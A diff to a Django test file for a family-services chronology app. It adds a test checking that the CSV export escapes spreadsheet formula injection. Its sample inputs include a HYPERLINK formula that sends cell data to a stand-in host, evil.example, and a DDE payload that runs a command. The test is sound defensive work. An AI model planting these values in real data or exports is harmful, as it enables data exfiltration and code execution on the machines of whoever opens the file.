@@ -4,7 +4,7 @@ queries, and exports to CSV and PDF with every entry in order."""
 import csv
 import io
 import re
-from datetime import timedelta
+from datetime import date, timedelta
 from urllib.parse import parse_qs, urlparse
 
 import pypdf
@@ -15,10 +15,13 @@ from django.urls import reverse
 from django.utils import timezone
 
 from doorstep.audit.models import AuditAction, AuditEvent
-from doorstep.chronology.models import ChronologyComment, ChronologyEntry
+from doorstep.chronology.models import ChronologyComment, ChronologyEntry, EntryKind
+from doorstep.chronology.services import chronology_record
 from doorstep.engagement.models import Outcome
 from doorstep.engagement.tests.helpers import record
 from doorstep.families import casefile
+from doorstep.families import services as family_services
+from doorstep.families.models import MemberRole
 
 from .helpers import long_history
 
@@ -186,3 +189,30 @@ def test_significant_and_late_entries_stand_out(world, worker_client):
     page = worker_client.get(reverse("chronology:family", args=[world.family.pk])).content.decode()
     assert "ds-stand-out" in page and "govuk-tag--red" in page and "Late entry: recorded" in page
     assert "Threat to kill" in page
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_the_csv_export_neutralises_a_formula_in_the_family_name_and_in_every_other_cell(world, client):
+    """Issue 13, finding 5: a spreadsheet must show these cells as text, never run them as formulas."""
+    worker = world.users["involved_practitioner"]
+    evil = '=HYPERLINK("https://evil.example/?"&A2,"Open")'
+    family = family_services.family_create(by=worker, name=evil, reason="Health visiting concerns",
+                                           line1="2 Heol y Felin", town="Afonwy", postcode="AF1 1AA")
+    family_services.person_add(family=family, by=worker, role=MemberRole.PARENT, given_name="@SUM(1+1)",
+                               family_name="Testing", date_of_birth=date(1990, 5, 1))
+    notes = ["+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
+    for i, note in enumerate(notes):
+        chronology_record(family=family, kind=EntryKind.CONTACT, occurred_at=timezone.now() - timedelta(hours=i + 1),
+                          summary=note, by=worker)
+    client.force_login(worker)
+    rows = _read_csv(client.get(reverse("chronology:csv", args=[family.pk])))
+    assert rows[0] == ["Multi-agency chronology", f"'{evil} ({family.reference})"]
+    household = next(r for r in rows if r and r[0] == "Household")
+    assert household[1].startswith("'@SUM(1+1) Testing")
+    header = rows.index(next(r for r in rows if r[:2] == ["Date", "Time"]))
+    summaries = [r[7] for r in rows[header + 1:]]
+    for note in notes:
+        assert "'" + note in summaries
+    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
